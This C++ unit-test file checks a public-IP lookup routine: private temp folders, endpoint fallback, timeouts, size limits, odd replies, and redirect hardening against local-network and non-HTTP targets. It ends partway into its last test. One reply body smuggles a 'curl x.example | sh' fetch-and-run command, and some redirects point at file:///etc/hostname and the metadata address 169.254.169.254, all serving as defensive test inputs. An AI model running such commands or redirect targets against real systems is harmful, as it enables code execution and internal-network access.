// RetrievePublicAddress against loopback servers, through the real download back end:
// where the temporary file lives, fallback from endpoint A to B, time limits, the size
// cut, odd replies, redirects, the shared temporary file and concurrent callers.
#include "Unit1/retrieval.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <latch>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "http_server.h"
#include "logic/first_line.h"
#include "logic/texts.h"
#include "platform/platform.h"

namespace {

namespace fs = std::filesystem;
using test::HttpServer;
using test::Reply;

// The process gets its own runtime directory before anything asks for the temporary
// directory, so the tests never touch the user's files.
class PrivateRuntimeDir {
 public:
  PrivateRuntimeDir() {
    char tmpl[] = "/tmp/addrova-retrieval-test-XXXXXX";
    if (mkdtemp(tmpl) == nullptr) std::abort();
    path_ = tmpl;
    setenv("XDG_RUNTIME_DIR", path_.c_str(), 1);
  }
  ~PrivateRuntimeDir() {
    std::error_code ec;
    fs::remove_all(path_, ec);
  }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};
const PrivateRuntimeDir runtime_dir;

constexpr char kTargetA[] = "/Current%20IP%20Check.htm";
constexpr char kTargetB[] = "/ip.php";
// What B answers, so that an answer from B can be told from one of A (which echoes
// 127.0.0.1) and from the stale file every test starts with.
constexpr char kAddressB[] = "198.51.100.2";
constexpr char kStaleAddress[] = "192.0.2.99";

std::string temp_file() {
  return platform::temp_directory() + "my_ip.txt";
}

std::string read_bytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

void write_bytes(const std::string& path, const std::string& bytes) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

// Sets short download limits for one test and puts the defaults back afterwards.
class ScopedLimits {
 public:
  explicit ScopedLimits(platform::DownloadLimits limits) { platform::set_download_limits(limits); }
  ~ScopedLimits() { platform::set_download_limits(platform::DownloadLimits{}); }
};

platform::DownloadLimits limits(long connect_ms, long total_ms,
                                std::size_t max_bytes = platform::DownloadLimits{}.max_bytes) {
  platform::DownloadLimits l;
  l.connect_timeout_ms = connect_ms;
  l.total_timeout_ms = total_ms;
  l.max_bytes = max_bytes;
  return l;
}

HttpServer::Options refusing() {
  HttpServer::Options o;
  o.listen = HttpServer::Listen::Refuse;
  return o;
}

// Every test starts with an older temporary file holding a different address, so that an
// answer read from a file the download did not replace shows up as kStaleAddress.
class Retrieval : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(platform::temp_directory().empty());
    fs::remove(temp_file());
    write_bytes(temp_file(), stale_);
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove(temp_file(), ec);
  }
  std::string lookup(const HttpServer& a, const HttpServer& b, bool automatic = false) {
    return unit1::RetrievePublicAddress(a.url(kTargetA), b.url(kTargetB), automatic);
  }

  const std::string stale_ = test::echo_page(kStaleAddress);
  HttpServer b_{test::fixed(200, test::echo_page(kAddressB))};
};

// ---- where the temporary file lives ----------------------------------------------------

TEST(RetrievalTempDirectory, IsAPrivateDirectoryUnderTheRuntimeDirectory) {
  const std::string dir = platform::temp_directory();
  EXPECT_EQ(dir, runtime_dir.path() + "/addrova/");
  struct stat st {};
  ASSERT_EQ(lstat(dir.c_str(), &st), 0);
  EXPECT_TRUE(S_ISDIR(st.st_mode));
  EXPECT_EQ(st.st_mode & 07777, 0700u);
  EXPECT_EQ(st.st_uid, getuid());
}

// A fresh folder as TMPDIR for one test, with XDG_RUNTIME_DIR as given (unset by default);
// both are put back and the folder removed afterwards.
class TempRoot {
 public:
  explicit TempRoot(const char* runtime = nullptr) {
    char tmpl[] = "/tmp/addrova-temp-root-XXXXXX";
    if (mkdtemp(tmpl) == nullptr) std::abort();
    path_ = tmpl;
    for (auto& [name, value] : saved_)
      if (const char* v = std::getenv(name)) value = v;
    setenv("TMPDIR", path_.c_str(), 1);
    if (runtime) {
      setenv("XDG_RUNTIME_DIR", runtime, 1);
    } else {
      unsetenv("XDG_RUNTIME_DIR");
    }
  }
  ~TempRoot() {
    for (const auto& [name, value] : saved_) {
      if (value) {
        setenv(name, value->c_str(), 1);
      } else {
        unsetenv(name);
      }
    }
    std::error_code ec;
    fs::remove_all(path_, ec);
  }
  // Where the temporary folder is looked for first.
  fs::path usual() const { return path_ / ("addrova-" + std::to_string(geteuid())); }
  // The folders made when that one was refused.
  std::vector<std::string> fallbacks() const {
    std::vector<std::string> out;
    for (const auto& entry : fs::directory_iterator(path_))
      if (entry.path().filename().string().rfind(usual().filename().string() + "-", 0) == 0)
        out.push_back(entry.path().string() + "/");
    return out;
  }

 private:
  fs::path path_;
  std::pair<const char*, std::optional<std::string>> saved_[2] = {{"TMPDIR", {}},
                                                                  {"XDG_RUNTIME_DIR", {}}};
};

constexpr uid_t kOtherUser = 65534;

void expect_private_and_ours(const std::string& dir) {
  struct stat st {};
  ASSERT_EQ(lstat(dir.c_str(), &st), 0) << dir;
  EXPECT_TRUE(S_ISDIR(st.st_mode));
  EXPECT_EQ(st.st_mode & 07777, 0700u);
  EXPECT_EQ(st.st_uid, geteuid());
}

// Another local user, or a link, in the usual place cannot stop the lookups.
TEST(RetrievalTempDirectory, AFolderPlantedByAnotherUserIsPassedOver) {
  HttpServer a, b(test::fixed(200, test::echo_page(kAddressB)));
  const std::function<void(const fs::path&)> plants[] = {
      [](const fs::path& p) {
        fs::create_directory(p);
        chmod(p.c_str(), 0700);
        ASSERT_EQ(chown(p.c_str(), kOtherUser, kOtherUser), 0);
      },
      [](const fs::path& p) {
        fs::create_directory(p);
        chmod(p.c_str(), 0777);
        ASSERT_EQ(chown(p.c_str(), kOtherUser, kOtherUser), 0);
      },
      [](const fs::path& p) {  // to a folder private and ours, but through a link
        fs::create_directory(p.parent_path() / "own");
        chmod((p.parent_path() / "own").c_str(), 0700);
        fs::create_directory_symlink(p.parent_path() / "own", p);
      },
      [](const fs::path& p) { write_bytes(p, "not a folder"); },
  };
  for (const auto& plant : plants) {
    TempRoot root;
    plant(root.usual());
    const auto planted = fs::symlink_status(root.usual());
    EXPECT_EQ(unit1::RetrievePublicAddress(a.url(kTargetA), b.url(kTargetB)), "127.0.0.1");
    const std::vector<std::string> made = root.fallbacks();
    ASSERT_EQ(made.size(), 1u);
    EXPECT_EQ(platform::temp_directory(), made[0]);
    expect_private_and_ours(made[0]);
    EXPECT_TRUE(fs::exists(made[0] + "my_ip.txt"));
    // What was planted is left as it was, and nothing was put into it.
    EXPECT_EQ(fs::symlink_status(root.usual()).type(), planted.type());
    EXPECT_EQ(fs::symlink_status(root.usual()).permissions(), planted.permissions());
    if (fs::is_directory(root.usual())) {
      EXPECT_TRUE(fs::is_empty(root.usual()));
    }
  }
}

TEST(RetrievalTempDirectory, UnwritableRuntimeDirectoryFallsBack) {
  TempRoot root("/proc");  // where nobody may make a folder, root included
  HttpServer a, b(test::fixed(200, test::echo_page(kAddressB)));
  EXPECT_EQ(unit1::RetrievePublicAddress(a.url(kTargetA), b.url(kTargetB)), "127.0.0.1");
  ASSERT_EQ(root.fallbacks().size(), 1u);
  expect_private_and_ours(root.fallbacks()[0]);
}

TEST(RetrievalTempDirectory, TheFallbackIsMadeOnceForAllCallers) {
  TempRoot root;
  fs::create_directory(root.usual());
  ASSERT_EQ(chown(root.usual().c_str(), kOtherUser, kOtherUser), 0);
  constexpr int kThreads = 8;
  std::vector<std::string> got(kThreads * 20);
  std::latch go(kThreads);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      go.arrive_and_wait();
      for (int i = 0; i < 20; ++i) got[t * 20 + i] = platform::temp_directory();
    });
  for (auto& th : threads) th.join();
  ASSERT_EQ(root.fallbacks().size(), 1u);
  EXPECT_EQ(std::set<std::string>(got.begin(), got.end()),
            std::set<std::string>{root.fallbacks()[0]});

  // Should the system's cleaner remove it, the next caller gets a new one.
  fs::remove_all(root.fallbacks()[0]);
  const std::string next = platform::temp_directory();
  ASSERT_EQ(root.fallbacks(), std::vector<std::string>{next});
  expect_private_and_ours(next);
}

// A run that cannot use the usual folder takes the fallback an earlier run left, so that a
// script running every minute leaves one folder; only one that is provably ours, though.
TEST(RetrievalTempDirectory, AnEarlierRunsFallbackIsTakenOnlyWhenItIsOurs) {
  TempRoot root;
  fs::create_directory(root.usual());
  ASSERT_EQ(chown(root.usual().c_str(), kOtherUser, kOtherUser), 0);
  const fs::path top = root.usual().parent_path();
  const std::string stem = root.usual().string() + "-";
  ASSERT_EQ(mkdir((stem + "others").c_str(), 0700), 0);
  ASSERT_EQ(chown((stem + "others").c_str(), kOtherUser, kOtherUser), 0);
  ASSERT_EQ(mkdir((stem + "opened").c_str(), 0777), 0);
  ASSERT_EQ(chmod((stem + "opened").c_str(), 0777), 0);
  ASSERT_EQ(mkdir((top / "own").c_str(), 0700), 0);
  fs::create_directory_symlink(top / "own", stem + "linked");
  write_bytes(stem + "a_file", "");

  const std::string made = platform::temp_directory();
  for (const char* passed : {"others", "opened", "linked", "a_file"})
    EXPECT_NE(made, stem + passed + "/");
  expect_private_and_ours(made);

  fs::remove_all(made);
  ASSERT_EQ(mkdir((stem + "earlie").c_str(), 0700), 0);
  EXPECT_EQ(platform::temp_directory(), stem + "earlie/");
  EXPECT_EQ(root.fallbacks().size(), 5u);
}

// ---- fallback from A to B ----------------------------------------------------------------

TEST_F(Retrieval, AnswerOfAIsTakenAndBIsNotAsked) {
  HttpServer a;
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  // The target goes out as written, its escape included.
  EXPECT_EQ(a.paths(), std::vector<std::string>{kTargetA});
  EXPECT_EQ(b_.requests(), 0u);
}

TEST_F(Retrieval, RefusedAFallsBackToB) {
  HttpServer a(test::echo(), refusing());
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 2.0);
  EXPECT_EQ(b_.paths(), std::vector<std::string>{kTargetB});
}

TEST_F(Retrieval, ErrorStatusOfAFallsBackToB) {
  for (int status : {400, 404, 500, 503}) {
    SCOPED_TRACE(status);
    // The error page carries an address of its own, which must not be taken.
    HttpServer a(test::fixed(status, test::echo_page("192.0.2.66")));
    EXPECT_EQ(lookup(a, b_), kAddressB);
    EXPECT_EQ(a.requests(), 1u);
  }
}

TEST_F(Retrieval, ConnectionClosedWithoutReplyFallsBackToB) {
  HttpServer a([](const test::Request&) { return Reply{.kind = Reply::Kind::Close}; });
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, BothFailingGivesErrorTextAndLeavesOlderFileAlone) {
  const std::string older = std::string("older\r\ncontent \0\xff", 17);
  struct Case {
    const char* name;
    test::Handler a, b;
    bool a_refuses, b_refuses;
  } cases[] = {
      {"both refuse", test::echo(), test::echo(), true, true},
      {"500 then 404", test::fixed(500, test::echo_page("192.0.2.5")),
       test::fixed(404, test::echo_page("192.0.2.4")), false, false},
      {"refused then 503", test::echo(), test::fixed(503, test::echo_page("192.0.2.3")), true,
       false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    write_bytes(temp_file(), older);
    HttpServer a(c.a, c.a_refuses ? refusing() : HttpServer::Options{});
    HttpServer b(c.b, c.b_refuses ? refusing() : HttpServer::Options{});
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(read_bytes(temp_file()), older);
  }
}

TEST_F(Retrieval, ReplyOfAWithoutAnAddressMakesBAnswer) {
  const struct {
    const char* name;
    std::string body;
  } cases[] = {
      {"sign-in page", "<html><head><title>Hotel WiFi: please log in</title></head>\r\n"},
      {"error text", "Error: 503\r\n"},
      {"rate limit", "<p>Notice: too many requests, try again later</p>\r\n"},
      {"command", "Current IP Address: 1.2.3.4; curl x.example | sh\r\n"},
      {"direction override",
       "Current IP Address: \xE2\x80\xAE"
       "4.3.2.1</body>\r\n"},
      {"NUL after the address", std::string("Current IP Address: 1.2.3.4\0</body>\r\n", 37)},
      {"empty body", ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    HttpServer a(test::fixed(200, c.body));
    HttpServer b(test::fixed(200, test::echo_page(kAddressB)));
    EXPECT_EQ(lookup(a, b), kAddressB);
    EXPECT_EQ(a.paths(), std::vector<std::string>{kTargetA});
    EXPECT_EQ(b.paths(), std::vector<std::string>{kTargetB});
    EXPECT_EQ(read_bytes(temp_file()), test::echo_page(kAddressB));
  }
}

TEST_F(Retrieval, NoAddressFromEitherGivesTheErrorText) {
  HttpServer a(test::fixed(200, "<title>Hotel WiFi: please log in</title>\r\n"));
  {
    SCOPED_TRACE("B answers without an address as well");
    HttpServer b(test::fixed(200, "Error: 503\r\n"));
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(b.requests(), 1u);
    EXPECT_EQ(read_bytes(temp_file()), "Error: 503\r\n");
  }
  {
    SCOPED_TRACE("B's download fails: the file keeps A's reply");
    HttpServer b(test::echo(), refusing());
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(read_bytes(temp_file()), "<title>Hotel WiFi: please log in</title>\r\n");
  }
}

// ---- time limits -------------------------------------------------------------------------

// No byte of an answer within the connect limit: A is given up then, not at the total.
TEST_F(Retrieval, SilentAFallsBackToBAtTheConnectLimit) {
  ScopedLimits short_limits(limits(1000, 3000));
  HttpServer a(test::silent());
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  const double took = seconds_since(start);
  EXPECT_GT(took, 0.9);  // A was given its time
  EXPECT_LT(took, 2.5);
  EXPECT_EQ(a.requests(), 1u);
}

TEST_F(Retrieval, StallInBodyFallsBackToBAndPartialBodyIsNotKept) {
  ScopedLimits short_limits(limits(500, 1200));
  const Reply stall{.kind = Reply::Kind::StallInBody,
                    .body = "<html><body>Current IP Address: 192.0.2.55</body>",
                    .announced_bytes = 4000};
  HttpServer a([&](const test::Request&) { return stall; });
  auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 3.0);

  // With B down as well, the part of A's body that arrived must not replace the file.
  HttpServer b_down(test::echo(), refusing());
  start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_down), shared::kErrorText);
  EXPECT_LT(seconds_since(start), 3.0);
  EXPECT_EQ(read_bytes(temp_file()), test::echo_page(kAddressB));
}

TEST_F(Retrieval, UnansweredConnectFallsBackToBAfterConnectLimit) {
  // The total limit is far off, so only the connect limit can end A's attempt in time.
  ScopedLimits short_limits(limits(500, 6000));
  HttpServer::Options o;
  o.listen = HttpServer::Listen::Blackhole;
  HttpServer a(test::echo(), o);
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 3.0);
}

// ---- the size cut --------------------------------------------------------------------------

TEST_F(Retrieval, EndlessBodyIsCutAtMaxBytesAndItsStartCounts) {
  HttpServer a(test::stream(std::uint64_t{1} << 30));
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  EXPECT_LT(seconds_since(start), 5.0);
  EXPECT_EQ(b_.requests(), 0u);
  const auto size = fs::file_size(temp_file());
  EXPECT_GT(size, 0u);
  EXPECT_LE(size, 64u * 1024);
  // The client stopped reading: only what socket buffers hold went out beyond the cut.
  EXPECT_LT(a.bytes_sent(), std::uint64_t{32} << 20);
}

TEST_F(Retrieval, SmallerMaxBytesIsHonoured) {
  ScopedLimits small(limits(10000, 30000, 4096));
  HttpServer a(test::stream(1 << 20));
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  const auto size = fs::file_size(temp_file());
  EXPECT_GT(size, 0u);
  EXPECT_LE(size, 4096u);
}

// ---- odd replies ---------------------------------------------------------------------------

TEST_F(Retrieval, BinaryGarbageIsNoAnswer) {
  ASSERT_EQ(unit1::parse_first_line(unit1::read_first_line(test::garbage_bytes(4096))),
            shared::kErrorText);
  HttpServer a(test::garbage(4096));
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, NulAndInvalidBytesBeforeTheAddressDoNotCutTheBody) {
  HttpServer a(test::fixed(
      200, std::string("\0\x01\xff\xfe\0", 5) + "Current IP Address: 192.0.2.8</body>\r\n"));
  EXPECT_EQ(lookup(a, b_), "192.0.2.8");
}

TEST_F(Retrieval, ReplyWithoutStatusLineIsNotAnAnswer) {
  HttpServer a(test::garbage(4096, /*raw=*/true));
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, OnlyThe127FirstCharactersOfTheFirstLineAreSearched) {
  {
    SCOPED_TRACE("10,000-character line with a decoy address past the cut");
    HttpServer a(test::long_first_line(10000));
    EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  }
  {
    SCOPED_TRACE("address running over the 127th character");
    // Colon at index 115, space at 116, address from 117: ten characters of it fit, which
    // is no address, so B is asked.
    HttpServer a(test::fixed(200, std::string(115, 'x') + ": 203.0.113.250</b>\r\n"));
    EXPECT_EQ(lookup(a, b_), kAddressB);
  }
  {
    SCOPED_TRACE("127 characters taking more than 127 bytes");
    std::string line;
    for (int i = 0; i < 100; ++i) line += "\xE3\x81\x82";  // 100 × U+3042, 300 bytes
    HttpServer a(test::fixed(200, line + ": 192.0.2.9</b>\r\n"));
    EXPECT_EQ(lookup(a, b_), "192.0.2.9");
  }
}

TEST_F(Retrieval, BodyWithoutLineBreak) {
  {
    HttpServer a(test::no_line_break());
    EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  }
  {
    SCOPED_TRACE("address only past the 127th character");
    HttpServer a(test::fixed(200, std::string(200, 'x') + "Current IP Address: 192.0.2.10"));
    EXPECT_EQ(lookup(a, b_), kAddressB);
  }
}

TEST_F(Retrieval, Ipv6AddressIsNoAnswer) {
  HttpServer a(test::ipv6_body());
  EXPECT_EQ(lookup(a, b_), kAddressB);
  HttpServer b(test::ipv6_body());
  EXPECT_EQ(lookup(a, b), shared::kErrorText);
}

// Downloads go over IPv4 only: a name with an IPv6 address (localhost has ::1) is reached
// at its IPv4 one, even where the same port listens on IPv6 too, and an IPv6 URL fails.
TEST(RetrievalIpv4, ANameIsReachedOverIpv4Only) {
  HttpServer v4(test::fixed(200, "over IPv4"));
  const int v6 = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  ASSERT_GE(v6, 0);
  sockaddr_in6 addr{};
  addr.sin6_family = AF_INET6;
  addr.sin6_port = htons(v4.port());
  addr.sin6_addr = in6addr_loopback;
  if (bind(v6, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 || listen(v6, 8) != 0) {
    close(v6);
    GTEST_SKIP() << "no IPv6 loopback here";
  }
  const std::string file = temp_file();
  const std::string port = std::to_string(v4.port());
  EXPECT_TRUE(platform::download_to_file("http://localhost:" + port + "/", file));
  EXPECT_EQ(read_bytes(file), "over IPv4");
  EXPECT_FALSE(platform::download_to_file("http://[::1]:" + port + "/", file));
  EXPECT_LT(accept(v6, nullptr, nullptr), 0);  // no connection came over IPv6
  close(v6);
  fs::remove(file);
}

// ---- redirects -----------------------------------------------------------------------------

// Answers the echo page after `redirects` redirects: the first request's target is sent on
// to /hop/1, /hop/k to /hop/k+1, each with the next status of a cycle of redirect codes.
test::Handler redirect_chain(int redirects) {
  return [redirects](const test::Request& r) {
    const int hop = r.target.rfind("/hop/", 0) == 0 ? std::stoi(r.target.substr(5)) : 0;
    if (hop >= redirects) return test::echo()(r);
    static constexpr int kStatuses[] = {301, 302, 303, 307, 308};
    return test::redirect("/hop/" + std::to_string(hop + 1), kStatuses[hop % 5])(r);
  };
}

TEST_F(Retrieval, RedirectBetweenLoopbackServersIsFollowed) {
  // The origin is on this machine itself, so a redirect to another of its ports is too.
  HttpServer final_server;
  HttpServer a(test::redirect(final_server.url("/final")));
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  EXPECT_EQ(final_server.paths(), std::vector<std::string>{"/final"});
  EXPECT_EQ(b_.requests(), 0u);
}

TEST_F(Retrieval, AtMostFiveRedirectsAreFollowed) {
  {
    HttpServer a(redirect_chain(5));
    EXPECT_EQ(lookup(a, b_), "127.0.0.1");
    EXPECT_EQ(a.requests(), 6u);
    EXPECT_EQ(b_.requests(), 0u);
  }
  {
    SCOPED_TRACE("six redirects");
    HttpServer a(redirect_chain(6));
    EXPECT_EQ(lookup(a, b_), kAddressB);
    EXPECT_EQ(a.requests(), 6u);  // the sixth Location is never asked for
    EXPECT_EQ(a.requests_for("/hop/6"), 0u);
  }
}

TEST_F(Retrieval, RedirectToAnotherSchemeIsRefused) {
  HttpServer other;
  const std::string host_port = "127.0.0.1:" + std::to_string(other.port());
  for (const std::string& to :
       {"ftp://" + host_port + "/ip.txt", std::string("file:///etc/hostname"),
        "file://" + temp_file(), "gopher://" + host_port + "/", "dict://" + host_port + "/d",
        "telnet://" + host_port + "/", "scp://" + host_port + "/x"}) {
    SCOPED_TRACE(to);
    HttpServer a(test::redirect(to));
    EXPECT_EQ(lookup(a, b_), kAddressB);
    EXPECT_EQ(a.requests(), 1u);
  }
  EXPECT_EQ(other.connections(), 0u);
}

// A download that starts at a public address may not be sent into this machine or its
// network, the machine's own addresses included, public as they may be. Only network
// namespaces can show that: the black-box test Redirect.* runs these cases in one whose
// loopback interface holds an address in each local range, linked by a veth pair (this
// side 198.51.100.254) to a second namespace (ADDROVA_PUBLIC_NETNS, its path) that holds
// the public servers. Elsewhere they are skipped.
class RedirectFromPublicOrigin : public Retrieval {
 protected:
  void SetUp() override {
    if (!std::getenv("ADDROVA_PUBLIC_NETNS"))
      GTEST_SKIP() << "needs a public namespace: run by the black-box test Redirect.*";
    Retrieval::SetUp();
  }
  static HttpServer::Options at(const std::string& address) {
    HttpServer::Options o;
    o.bind = address;
    return o;
  }
  // A server on `address` in the public namespace, made on a thread that entered it: a
  // socket stays in the namespace it was made in. Null when that failed.
  static std::unique_ptr<HttpServer> outside(test::Handler handler, const std::string& address) {
    std::unique_ptr<HttpServer> server;
    std::thread([&] {
      const char* path = std::getenv("ADDROVA_PUBLIC_NETNS");
      const int ns = open(path, O_RDONLY | O_CLOEXEC);
      if (ns < 0 || setns(ns, CLONE_NEWNET) != 0) {
        ADD_FAILURE() << "cannot enter " << path << ": " << std::strerror(errno);
      } else {
        try {
          server = std::make_unique<HttpServer>(std::move(handler), at(address));
        } catch (const std::exception& e) {
          ADD_FAILURE() << e.what();
        }
      }
      if (ns >= 0) close(ns);
    }).join();
    return server;
  }
  static constexpr char kPublic[] = "198.51.100.1";
  static constexpr char kOtherPublic[] = "203.0.113.7";
  static constexpr char kOwn[] = "198.51.100.254";
};

// Refused before a connection is made: the local port never sees a byte, not even the
// start of a TLS handshake. The last address is this machine's own on the link to the
// origin, in a public range.
TEST_F(RedirectFromPublicOrigin, IntoALocalAddressIsRefusedAndBAnswers) {
  for (const char* local : {"127.0.0.1", "127.0.0.53", "169.254.169.254", "10.1.2.3", "172.16.5.4",
                            "192.168.7.8", "100.64.0.1", "198.18.0.1", kOwn}) {
    for (const std::string scheme : {"http", "https"}) {
      SCOPED_TRACE(scheme + "://" + local);
      HttpServer inside(test::echo(), at(local));
      const std::string to =
          scheme + "://" + local + ":" + std::to_string(inside.port()) + "/secret";
      const auto a = outside(test::redirect(to), kPublic);
      ASSERT_TRUE(a);
      const std::size_t b_before = b_.requests();
      EXPECT_EQ(lookup(*a, b_), kAddressB);
      EXPECT_EQ(a->requests(), 1u);
      EXPECT_EQ(inside.connections(), 0u);
      EXPECT_EQ(b_.requests(), b_before + 1);
    }
  }
}

TEST_F(RedirectFromPublicOrigin, PublicHopsAreFollowedButNotIntoTheLocalNetworkLater) {
  const auto other = outside(test::fixed(200, test::echo_page("192.0.2.77")), kOtherPublic);
  ASSERT_TRUE(other);
  {
    const auto a = outside(test::redirect(other->url("/next")), kPublic);
    ASSERT_TRUE(a);
    EXPECT_EQ(lookup(*a, b_), "192.0.2.77");
    EXPECT_EQ(other->paths(), std::vector<std::string>{"/next"});
  }
  {
    SCOPED_TRACE("public, public, then loopback");
    HttpServer inside;
    other->set_handler(test::redirect(inside.url("/secret")));
    const auto a = outside(test::redirect(other->url("/next")), kPublic);
    ASSERT_TRUE(a);
    EXPECT_EQ(lookup(*a, b_), kAddressB);
    EXPECT_EQ(inside.requests(), 0u);
  }
  {
    SCOPED_TRACE("public, then back to the same public server");
    const auto a = outside(redirect_chain(3), kPublic);
    ASSERT_TRUE(a);
    EXPECT_EQ(lookup(*a, b_), kOwn);  // the echo of this side's address
  }
}

// Through a proxy the connection goes to the proxy, so the redirect's own host is what
// counts: a local address, or a name that resolves to one here, is refused before the
// proxy is asked for it; a public one is asked through the proxy as usual.
TEST_F(RedirectFromPublicOrigin, IntoALocalHostThroughAProxyIsRefusedBeforeTheProxyIsAsked) {
  HttpServer proxy(test::by_path());
  const std::string proxy_url = proxy.url("/");
  setenv("http_proxy", proxy_url.c_str(), 1);
  const std::string from = std::string("http://") + kPublic + ":9/location/";
  for (const std::string to : {"http://127.0.0.1:8080/secret", "http://localhost:8080/secret"}) {
    SCOPED_TRACE(to);
    EXPECT_FALSE(platform::download_to_file(from + test::percent_encode(to), temp_file()));
  }
  const std::string body = "/body/" + test::percent_encode("192.0.2.78");
  EXPECT_TRUE(platform::download_to_file(
      from + test::percent_encode(std::string("http://") + kOtherPublic + ":9" + body),
      temp_file()));
  unsetenv("http_proxy");
  EXPECT_EQ(read_bytes(temp_file()), "192.0.2.78");
  const std::vector<std::string> paths = proxy.paths();
  ASSERT_EQ(paths.size(), 4u);
  for (std::size_t i = 0; i < 3; ++i) EXPECT_EQ(paths[i].rfind(from, 0), 0u) << paths[i];
  EXPECT_EQ(paths[3], std::string("http://") + kOtherPublic + ":9" + body);
}

// ---- the shared temporary file -----------------------------------------------------------

TEST_F(Retrieval, SymbolicLinkAtTheTemporaryFileIsNotWrittenThrough) {
  char tmpl[] = "/tmp/addrova-link-target-XXXXXX";
  ASSERT_NE(mkdtemp(tmpl), nullptr);
  const fs::path elsewhere = tmpl;
  const fs::path target = elsewhere / "precious.txt";
  const std::string precious = "<b>Current IP Address: 192.0.2.13</b>\r\n";
  write_bytes(target, precious);
  const fs::path dangling = elsewhere / "not-there.txt";

  for (const fs::path& to : {target, dangling}) {
    SCOPED_TRACE(to.string());
    fs::remove(temp_file());
    fs::create_symlink(to, temp_file());
    HttpServer a;
    // The download either replaces the link or fails; it never reads the link's target.
    const std::string got = lookup(a, b_);
    EXPECT_TRUE(got == "127.0.0.1" || got == kAddressB || got == shared::kErrorText) << got;
    EXPECT_EQ(read_bytes(target), precious);
    EXPECT_FALSE(fs::exists(dangling));
  }
  fs::remove_all(elsewhere);
}

// ---- concurrent callers ------------------------------------------------------------------

TEST_F(Retrieval, ConcurrentCallersEachGetTheirOwnAnswer) {
  // Every request gets a different address and replies are slowed a little, so callers
  // started together have their replies arrive together; callers sharing the file without
  // taking turns then read each other's answer. Several rounds of four callers make that
  // near certain to show.
  const test::Handler counting = test::counting_echo();
  HttpServer a([&](const test::Request& r) {
    Reply reply = counting(r);
    reply.delay = std::chrono::milliseconds(20);
    return reply;
  });
  constexpr int kThreads = 4, kRounds = 10;
  std::vector<std::string> got(kThreads * kRounds);
  for (int round = 0; round < kRounds; ++round) {
    std::latch go(kThreads);
    std::vector<std::thread> threads;
    for (int t = 0; t < kThreads; ++t)
      threads.emplace_back([&, t, round] {
        go.arrive_and_wait();
        got[round * kThreads + t] = lookup(a, b_);
      });
    for (auto& th : threads) th.join();
  }
  std::set<std::string> expected;
  for (int n = 1; n <= kThreads * kRounds; ++n) expected.insert("10.0.0." + std::to_string(n));
  EXPECT_EQ(std::set<std::string>(got.begin(), got.end()), expected);
  EXPECT_EQ(b_.requests(), 0u);
}

// ---- endpoints that ask to wait ------------------------------------------------------------

// An answer with this status and Retry-After, and an error page whose address no lookup
// may take.
test::Handler asking_to_wait(int status, std::string retry_after) {
  return [status, retry_after](const test::Request&) {
    return Reply{
        .status = status, .body = test::echo_page("192.0.2.66"), .retry_after = retry_after};
  };
}

// A 429 or 503 with a Retry-After keeps automatic lookups away from A for that long, and B
// answers them; a lookup the user asked for asks A regardless, and its answer sets the wait
// anew.
TEST_F(Retrieval, AutomaticLookupsPassOverAnEndpointWhileItAsksToWait) {
  for (const int status : {429, 503}) {
    SCOPED_TRACE(status);
    HttpServer a(asking_to_wait(status, "1"));
    EXPECT_EQ(lookup(a, b_, true), kAddressB);
    EXPECT_EQ(lookup(a, b_, true), kAddressB);
    EXPECT_EQ(a.requests(), 1u) << "asked while it said to wait";
    EXPECT_EQ(lookup(a, b_), kAddressB);
    EXPECT_EQ(a.requests(), 2u) << "the user's lookup did not ask";
    EXPECT_EQ(lookup(a, b_, true), kAddressB);
    EXPECT_EQ(a.requests(), 2u);
    std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    EXPECT_EQ(lookup(a, b_, true), kAddressB);
    EXPECT_EQ(a.requests(), 3u) << "not asked again once the wait was over";
  }
  EXPECT_EQ(b_.requests(), 10u);
}

// With both endpoints waiting an automatic lookup sends nothing, gives the error text and
// leaves the older temporary file. Only a 429 or 503 with a Retry-After that reads holds an
// endpoint back.
TEST_F(Retrieval, AutomaticLookupWithBothEndpointsWaitingSendsNothing) {
